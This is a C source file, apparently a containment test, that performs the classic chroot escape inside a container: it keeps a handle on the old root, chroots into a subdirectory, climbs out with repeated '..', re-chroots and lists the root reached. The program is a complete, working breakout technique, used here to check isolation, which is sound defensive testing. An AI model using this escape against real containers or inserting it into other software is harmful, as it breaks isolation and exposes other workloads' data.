/*
 * The classic chroot escape, run inside a container holding CAP_SYS_CHROOT: chroot into a
 * subdirectory while keeping a handle on the old root, step out of the new root with "..", climb
 * as far as the kernel lets, chroot there, and print the names at the root reached. InitVmIT
 * checks that this is the container's own root, never the initramfs with every bundle in it.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/tmp/escape", 0700);
    int old = open("/", O_RDONLY | O_DIRECTORY);
    if (old < 0 || chroot("/tmp/escape") != 0 || fchdir(old) != 0) {
        perror("escape: setting up");
        return 1;
    }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) {
            break;
        }
    }
    if (chroot(".") != 0) {
        perror("escape: chroot .");
        return 1;
    }
    DIR *root = opendir("/");
    if (root == NULL) {
        perror("escape: opendir /");
        return 1;
    }
    printf("escaped-root:");
    for (struct dirent *e; (e = readdir(root)) != NULL;) {
        if (e->d_name[0] != '.') {
            printf(" %s", e->d_name);
        }
    }
    printf("\n");
    return 0;
}
